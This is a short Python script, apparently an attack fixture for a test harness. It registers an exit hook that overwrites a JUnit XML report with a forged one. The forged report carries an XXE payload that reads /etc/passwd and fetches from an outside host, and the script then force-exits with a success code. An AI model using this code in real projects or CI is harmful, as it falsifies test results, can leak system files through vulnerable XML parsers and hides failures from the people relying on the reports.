import atexit
import os


def forge():
    with open("/output/junit.xml", "w", errors="surrogateescape") as file:
        file.write("<?xml version='1.0'?><!DOCTYPE t [<!ENTITY x SYSTEM 'file:///etc/passwd'><!ENTITY % y SYSTEM 'http://192.0.2.1/'>%y;]><testsuites><testcase name='&x;'/></testsuites>")
    print("ATTACK forged", flush=True)
    os._exit(0)


atexit.register(forge)
